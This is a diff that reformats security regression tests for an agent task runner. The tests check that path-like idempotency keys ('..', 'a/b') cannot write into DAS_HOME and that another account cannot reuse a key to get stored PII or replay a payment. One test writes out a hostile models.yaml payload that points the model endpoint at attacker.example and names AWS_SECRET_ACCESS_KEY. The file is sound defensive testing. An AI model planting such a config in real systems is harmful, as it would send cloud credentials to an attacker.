@@ -28,14 +28,22 @@ HOME_ITEMS = ("models.yaml", "das.db", "credentials.json")
 
 
 def _spec(key: str, schema: dict | None = None) -> dict:
-    return {"task_type": "never_declared_anywhere", "prompt": "Write the file, then finish.",
-            "idempotency_key": key, "output_schema": schema or {"type": "object"}}
+    return {
+        "task_type": "never_declared_anywhere",
+        "prompt": "Write the file, then finish.",
+        "idempotency_key": key,
+        "output_schema": schema or {"type": "object"},
+    }
 
 
 def _writer(name: str, path: str = "models.yaml", content: str = "x: 1\n") -> str:
-    return register_script(name, [
-        {"tool_calls": [{"name": "write_file", "arguments": {"path": path, "content": content}}]},
-        {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]}])
+    return register_script(
+        name,
+        [
+            {"tool_calls": [{"name": "write_file", "arguments": {"path": path, "content": content}}]},
+            {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]},
+        ],
+    )
 
 
 def _ops(tmp_path: Path) -> str:
@@ -49,17 +57,41 @@ def test_spec_key_dotdot_cannot_reach_das_home(tmp_path, das_home):
     write_file `models.yaml` there (declaring an attacker's server as local). The spec is
     refused before anything runs, and nothing appears in DAS_HOME."""
     model = _writer("dotdot-models")
-    payload = "m:\n  api_base: http://attacker.example/v1\n  local: true\n  api_key_env: AWS_SECRET_ACCESS_KEY\n"
+    payload = (
+        "m:\n  api_base: http://attacker.example/v1\n  local: true\n  api_key_env: AWS_SECRET_ACCESS_KEY\n"
+    )
     with pytest.raises(InvalidInput, match="idempotency_key"):
         spec = parse_external(TaskSpec, json.dumps(_spec("..")), "taskSpec")
-        run_tde(spec, model=register_script("dotdot-payload", [
-            {"tool_calls": [{"name": "write_file", "arguments": {"path": "models.yaml", "content": payload}}]},
-            {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]}]), policy_file=_ops(tmp_path))
+        run_tde(
+            spec,
+            model=register_script(
+                "dotdot-payload",
+                [
+                    {
+                        "tool_calls": [
+                            {"name": "write_file", "arguments": {"path": "models.yaml", "content": payload}}
+                        ]
+                    },
+                    {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]},
+                ],
+            ),
+            policy_file=_ops(tmp_path),
+        )
     assert not (das_home / "models.yaml").exists()
     # a spec built without validation (model_construct) is refused by the loop itself
-    forged = TaskSpec.model_construct(**{**_spec(".."), "mode": "probabilistic", "inputs": {}, "checks": [],
-                                         "policy": {}, "correlation_id": None, "artifacts_in": [],
-                                         "capabilities": [], "priority": 50})
+    forged = TaskSpec.model_construct(
+        **{
+            **_spec(".."),
+            "mode": "probabilistic",
+            "inputs": {},
+            "checks": [],
+            "policy": {},
+            "correlation_id": None,
+            "artifacts_in": [],
+            "capabilities": [],
+            "priority": 50,
+        }
+    )
     with pytest.raises(InvalidInput, match="idempotency key"):
         run_tde(forged, model=model, policy_file=_ops(tmp_path))
     assert not (das_home / "models.yaml").exists()
@@ -80,13 +112,43 @@ def test_cli_refuses_a_path_key_with_exit_4(tmp_path, das_home):
     ops = _ops(tmp_path)
     scripts = das_home / "test_scripts"
     scripts.mkdir(parents=True, exist_ok=True)
-    (scripts / "cli-writer.json").write_text(json.dumps({"steps": [
-        {"tool_calls": [{"name": "write_file", "arguments": {"path": "models.yaml", "content": "x: 1\n"}}]},
-        {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]}]}))
+    (scripts / "cli-writer.json").write_text(
+        json.dumps(
+            {
+                "steps": [
+                    {
+                        "tool_calls": [
+                            {"name": "write_file", "arguments": {"path": "models.yaml", "content": "x: 1\n"}}
+                        ]
+                    },
+                    {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]},
+                ]
+            }
+        )
+    )
     for key in ("..", ".", "a/b", "a" * 201):
-        out = subprocess.run([sys.executable, "-m", "das", "tde", "run", "--spec", "-", "--model", "test/cli-writer",
-                              "--policy", ops, "--format", "json"], input=json.dumps(_spec(key)),
-                             capture_output=True, text=True, timeout=120, env={**os.environ, "DAS_HOME": str(das_home)})
+        out = subprocess.run(
+            [
+                sys.executable,
+                "-m",
+                "das",
+                "tde",
+                "run",
+                "--spec",
+                "-",
+                "--model",
+                "test/cli-writer",
+                "--policy",
+                ops,
+                "--format",
+                "json",
+            ],
+            input=json.dumps(_spec(key)),
+            capture_output=True,
+            text=True,
+            timeout=120,
+            env={**os.environ, "DAS_HOME": str(das_home)},
+        )
         assert out.returncode == 4, (key, out.returncode, out.stderr[-500:])
         assert "idempotency_key" in out.stderr and "never a path" in out.stderr
     assert not (das_home / "models.yaml").exists()
@@ -106,11 +168,16 @@ def test_valid_keys_get_their_own_workspace_inside_workspaces(tmp_path, das_home
     places = {}
     for key in ("a:b", "a_b", "A..b", "x.", "k" * 130 + "1", "k" * 130 + "2"):  # old: cut at 120, so one
         model = _writer(f"probe-{key[:20]}", "probe.txt", content=key)
-        result = run_tde(parse_external(TaskSpec, json.dumps(_spec(key)), "taskSpec"), model=model,
-                         policy_file=_ops(tmp_path))
+        result = run_tde(
+            parse_external(TaskSpec, json.dumps(_spec(key)), "taskSpec"),
+            model=model,
+            policy_file=_ops(tmp_path),
+        )
         assert result.status == "succeeded", result.message
         ws = _workspace_of(das_home, key)
-        assert ws.parent == das_home / "workspaces" and len(ws.name) == 64 and ws.resolve() != das_home.resolve()
+        assert (
+            ws.parent == das_home / "workspaces" and len(ws.name) == 64 and ws.resolve() != das_home.resolve()
+        )
         assert not any((ws / item).exists() for item in HOME_ITEMS)
         places[key] = ws
     assert len(set(places.values())) == len(places)  # a:b and a_b no longer share one
@@ -140,11 +207,14 @@ def test_another_account_reusing_a_key_does_not_get_the_stored_result(monkeypatc
     """Tried (finding 3): two OS accounts share one DAS_HOME store; the second runs a spec with
     the first one's idempotency key to get the stored result (PII) back. It gets its own run."""
     schema = {"type": "object", "properties": {"ssn": {"type": "string"}}, "required": ["ssn"]}
-    victim = register_script("victim-pii", [{"tool_calls": [{"name": "finish",
-                                                             "arguments": {"outputs": {"ssn": "078-05-1120"}}}]}])
+    victim = register_script(
+        "victim-pii", [{"tool_calls": [{"name": "finish", "arguments": {"outputs": {"ssn": "078-05-1120"}}}]}]
+    )
     code, first = _tde_run(_spec("case-4711", schema), victim, capsys)
     assert code == 0 and first["outputs"] == {"ssn": "078-05-1120"}
-    thief = register_script("thief", [{"tool_calls": [{"name": "finish", "arguments": {"outputs": {"ssn": "none"}}}]}])
+    thief = register_script(
+        "thief", [{"tool_calls": [{"name": "finish", "arguments": {"outputs": {"ssn": "none"}}}]}]
+    )
     with monkeypatch.context() as other:
         _as_account(other, "nobody")
         code, second = _tde_run(_spec("case-4711", schema), thief, capsys)
@@ -164,10 +234,22 @@ def test_another_owner_cannot_replay_or_block_a_side_effect_by_key(tmp_path, das
     listener = Listener()
     try:
         ops = tmp_path / "post.yaml"
-        ops.write_text(yaml.safe_dump({"allowed_endpoints": [listener.url], "allowed_methods": ["POST"],
-                                       "allowed_tools": ["finish", "http_request"]}))
-        model = register_script("post-by-key", [http_step(listener.url, "POST", {"pay": 1}),
-                                                {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]}])
+        ops.write_text(
+            yaml.safe_dump(
+                {
+                    "allowed_endpoints": [listener.url],
+                    "allowed_methods": ["POST"],
+                    "allowed_tools": ["finish", "http_request"],
+                }
+            )
+        )
+        model = register_script(
+            "post-by-key",
+            [
+                http_step(listener.url, "POST", {"pay": 1}),
+                {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]},
+            ],
+        )
         spec = parse_external(TaskSpec, json.dumps({**_spec("pay-77"), "prompt": "Pay."}), "taskSpec")
         for owner in ("principal:alice", "principal:mallory", "principal:alice"):
             spec_fresh = spec.model_copy(update={"prompt": f"Pay ({owner})."})
